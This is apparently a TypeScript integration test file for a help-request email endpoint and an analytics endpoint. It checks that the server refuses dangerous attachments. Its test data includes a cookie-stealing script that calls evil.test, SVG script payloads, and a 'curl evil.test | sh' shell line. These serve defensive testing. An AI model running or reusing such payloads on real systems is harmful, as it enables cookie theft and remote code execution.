import { HELP_ATTACHMENT_MAX_BYTES, abilityFor, can } from '@cible/core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startSeededServer, userIdOf } from './support/seeded-server';
import { describeEachDatabase } from './support/test-database';

type Server = Awaited<ReturnType<typeof startSeededServer>>;

const HELP = '/v1/email/help-request';
const SUPPORT = 'aide@cible.test';

describeEachDatabase('help request and analytics', (context) => {
  let server: Server;
  let token: string;

  beforeAll(async () => {
    server = await startSeededServer(context.db, { env: { SUPPORT_MAILBOX: SUPPORT } });
    token = await server.api.login('kam@atlas.demo');
  }, 120_000);
  afterAll(async () => {
    await server?.close();
  });

  it('mails the help request to the support mailbox with its fields and attachment', async () => {
    const content = 'ligne 1\nligne 2 — accentuée\n'.repeat(1000);
    const answer = await server.api.call('POST', HELP, {
      token,
      body: {
        request_type: 'bug_report',
        message: 'La recherche rapide ne répond plus.',
        attachment: { file_content: content, file_name: 'journal.txt', file_type: 'text/plain' },
        user_first_name: 'Chloé',
        user_last_name: 'Thomas',
        organization_name: 'Atlas Conseil',
        direct_phone: '01 02 03 04 05',
        email: 'chloe.thomas@atlas.demo',
      },
    });
    expect(answer.status).toBe(204);
    const mail = await server.mail.catcher!.waitFor((caught) => caught.envelope.to.includes(SUPPORT));
    expect(mail.subject).toContain('Signaler un bug');
    expect(mail.subject).toContain('Chloé Thomas');
    expect(mail.text).toContain('La recherche rapide ne répond plus.');
    expect(mail.text).toContain('01 02 03 04 05');
    expect(mail.text).toContain(`Utilisateur n° ${await userIdOf(context.db, 'kam@atlas.demo')}`);
    expect(mail.attachments).toEqual([{ filename: 'journal.txt', contentType: 'text/plain', size: Buffer.byteLength(content) }]);
  });

  it('accepts a 3 MB attachment (body limit raised for this route) and decodes a base64 data URL', async () => {
    server.mail.catcher!.clear();
    const big = 'a'.repeat(HELP_ATTACHMENT_MAX_BYTES);
    const answer = await server.api.call('POST', HELP, {
      token,
      body: { request_type: 'customer_service', message: 'Gros fichier', attachment: { file_content: big, file_name: 'gros.txt', file_type: 'text/plain' } },
    });
    expect(answer.status).toBe(204);
    const mail = await server.mail.catcher!.waitFor((caught) => caught.subject.includes('Contacter le service client'));
    expect(mail.attachments[0]?.size).toBe(HELP_ATTACHMENT_MAX_BYTES);

    const csv = Buffer.from('nom;société\nDupont;Atlas\n');
    const dataUrl = await server.api.call('POST', HELP, {
      token,
      body: { request_type: 'training', message: 'Export', attachment: { file_content: `data:text/csv;base64,${csv.toString('base64')}`, file_name: 'export.csv', file_type: 'text/csv' } },
    });
    expect(dataUrl.status).toBe(204);
    const withCsv = await server.mail.catcher!.waitFor((caught) => caught.subject.includes('Demander une formation'));
    expect(withCsv.attachments).toEqual([{ filename: 'export.csv', contentType: 'text/plain', size: csv.length }]);
  });

  it('allows an attachment by its content, not its name or declared type: .exe, HTML, SVG with a script refused; a text named .exe forwarded as text', async () => {
    const exe = Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00, 0xb8, ...Buffer.from('This program cannot be run in DOS mode.')]);
    const html = '<!DOCTYPE html><html><body><p>Bonjour</p><script>fetch("https://evil.test/?c=" + document.cookie)</script></body></html>';
    const svg = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>';
    const base64 = (content: Buffer | string) => Buffer.from(content).toString('base64');
    const refused: Record<string, { file_content: string; file_name: string; file_type: string; reason?: string }> = {
      'an .exe as a data URL': { file_content: `data:application/x-msdownload;base64,${base64(exe)}`, file_name: 'outil.exe', file_type: 'application/x-msdownload' },
      'an .exe renamed .txt': { file_content: `data:text/plain;base64,${base64(exe)}`, file_name: 'notes.txt', file_type: 'text/plain', reason: 'binary' },
      'an .exe with no type': { file_content: `data:;base64,${base64(exe)}`, file_name: 'outil', file_type: '', reason: 'binary' },
      'an HTML page': { file_content: html, file_name: 'page.html', file_type: 'text/html' },
      'an HTML page renamed .txt': { file_content: html, file_name: 'page.txt', file_type: 'text/plain' },
      'an SVG with a script': { file_content: svg, file_name: 'logo.svg', file_type: 'image/svg+xml' },
      'an SVG with a script renamed .txt': { file_content: svg, file_name: 'logo.txt', file_type: 'text/plain' },
      'an SVG with a script as a data URL': { file_content: `data:text/plain;base64,${base64(svg)}`, file_name: 'logo.txt', file_type: 'text/plain', reason: 'markup' },
      'a shell script': { file_content: '#!/bin/sh\ncurl https://evil.test | sh\n', file_name: 'install.txt', file_type: 'text/plain' },
      'a text declared as an executable': { file_content: 'Bonjour', file_name: 'rapport.exe', file_type: 'application/x-msdownload' },
    };
    for (const [name, attachment] of Object.entries(refused)) {
      const { reason, ...sent } = attachment;
      const answer = await server.api.call<{ code: string; details?: { reason: string } }>('POST', HELP, {
        token,
        body: { request_type: 'bug_report', message: `Refusé : ${name}`, attachment: sent },
      });
      expect([answer.status, answer.body.code], name).toEqual([400, 'HELP.FILE_TYPE_NOT_ALLOWED']);
      if (reason !== undefined) expect(answer.body.details?.reason, name).toBe(reason);
    }
    // An executable read as text by a browser holds NUL characters: refused by the contract's string rule, and as binary.
    const readByBrowser = new TextDecoder().decode(exe);
    const asText = await server.api.call<{ issues: { path: (string | number)[]; message: string }[] }>('POST', HELP, {
      token,
      body: { request_type: 'bug_report', message: 'Refusé : un .exe lu comme texte', attachment: { file_content: readByBrowser, file_name: 'outil.exe', file_type: '' } },
    });
    expect(asText.status).toBe(400);
    expect(asText.body.issues).toContainEqual({ path: ['attachment', 'file_content'], message: 'HELP.FILE_TYPE_NOT_ALLOWED' });

    // A text named .exe is text: accepted, and forwarded as text/plain under a .txt name (never run at support).
    const text = 'Journal de la recherche\n10:00 délai dépassé\n';
    const renamed = await server.api.call('POST', HELP, {
      token,
      body: { request_type: 'bug_report', message: 'Accepté : un texte nommé .exe', attachment: { file_content: text, file_name: 'rapport.exe', file_type: 'application/octet-stream' } },
    });
    expect(renamed.status).toBe(204);
    const mail = await server.mail.catcher!.waitFor((caught) => caught.text?.includes('Accepté : un texte nommé .exe') === true);
    expect(mail.attachments).toEqual([{ filename: 'rapport.exe.txt', contentType: 'text/plain', size: Buffer.byteLength(text) }]);
    expect(server.mail.catcher!.list().filter((caught) => caught.text?.includes('Refusé') === true)).toEqual([]);
  });

  it('lets every licence contact customer service, and only REQUEST_HELP readers ask for a profile setup or a training (core’s mayRequestHelpType)', async () => {
    for (const [email, licenceId] of [['sales@atlas.demo', 1], ['sender@atlas.demo', 10], ['no-licence@atlas.demo', 0], ['marketing@atlas.demo', 2]] as const) {
      const caller = await server.api.login(email);
      const ability = abilityFor({ licenceId, testerLevel: null, isOrganizationManager: false, canExport: false, canExportLocation: false });
      const contact = await server.api.call('POST', HELP, { token: caller, body: { request_type: 'customer_service', message: `Bonjour de ${email}` } });
      expect(contact.status, email).toBe(204);
      for (const request_type of ['profile_setup', 'training'] as const) {
        const answer = await server.api.call('POST', HELP, { token: caller, body: { request_type, message: `Service pour ${email}` } });
        if (can(ability, 'read', 'REQUEST_HELP')) expect(answer.status, `${email} ${request_type}`).toBe(204);
        else expect([answer.status, answer.body.code, answer.body.details], `${email} ${request_type}`).toEqual([403, 'AUTH.FORBIDDEN', { subject: 'REQUEST_HELP', action: 'read' }]);
      }
    }
    expect(server.mail.catcher!.list().some((mail) => mail.text?.includes('Service pour sales@atlas.demo'))).toBe(false);
    expect(server.mail.catcher!.list().some((mail) => mail.text?.includes('Service pour marketing@atlas.demo'))).toBe(true);
  });

  it('answers 400 with the spec’s codes: message required, file too large; 413 beyond the body limit; 401 anonymous', async () => {
    const empty = await server.api.call('POST', HELP, { token, body: { request_type: 'training', message: '   ' } });
    expect([empty.status, empty.body.code]).toEqual([400, 'HELP.MESSAGE_REQUIRED']);
    const tooLarge = await server.api.call('POST', HELP, {
      token,
      body: { request_type: 'training', message: 'x', attachment: { file_content: 'a'.repeat(HELP_ATTACHMENT_MAX_BYTES + 1), file_name: 'f.txt', file_type: 'text/plain' } },
    });
    expect([tooLarge.status, tooLarge.body.code]).toEqual([400, 'HELP.FILE_TOO_LARGE']);
    const huge = await server.api.call('POST', HELP, { token, body: { request_type: 'training', message: 'x'.repeat(7 * 1024 * 1024) } });
    expect([huge.status, huge.body.code]).toEqual([413, 'PAYLOAD_TOO_LARGE']);
    const unknownType = await server.api.call('POST', HELP, { token, body: { request_type: 'complaint', message: 'x' } });
    expect([unknownType.status, unknownType.body.code]).toEqual([400, 'VALIDATION.INVALID_BODY']);
    const anonymous = await server.api.call('POST', HELP, { body: { request_type: 'training', message: 'x' } });
    expect(anonymous.status).toBe(401);
  });

  it('stores the analytics events of identified users, refuses invalid names and anonymous calls', async () => {
    const userId = await userIdOf(context.db, 'kam@atlas.demo');
    const occurredAt = '2026-11-20T10:00:00.000Z';
    const answer = await server.api.call('POST', '/v1/analytics/events', {
      token,
      body: {
        event_list: [
          { name: 'page_view', occurred_at: occurredAt, path: '/business-alerts', properties: { from: 'header' } },
          { name: 'page_leave', occurred_at: occurredAt, path: '/business-alerts' },
        ],
      },
    });
    expect(answer.status).toBe(204);
    const rows = await context.db.query<{ name: string; path: string; properties: unknown; occurred_at: Date }>(
      'SELECT name, path, properties, occurred_at FROM analytics_events WHERE user_id = $1 ORDER BY id',
      [userId],
    );
    expect(rows.map((row) => [row.name, row.path, row.properties, row.occurred_at.toISOString()])).toEqual([
      ['page_view', '/business-alerts', { from: 'header' }, occurredAt],
      ['page_leave', '/business-alerts', {}, occurredAt],
    ]);

    const invalid = await server.api.call('POST', '/v1/analytics/events', {
      token,
      body: { event_list: [{ name: 'Page View!', occurred_at: occurredAt }] },
    });
    expect([invalid.status, invalid.body.code]).toEqual([400, 'ANALYTICS.INVALID_EVENT_NAME']);
    const anonymous = await server.api.call('POST', '/v1/analytics/events', { body: { event_list: [{ name: 'page_view', occurred_at: occurredAt }] } });
    expect(anonymous.status).toBe(401);
    expect((await context.db.query('SELECT id FROM analytics_events')).length).toBe(2);
  });
});
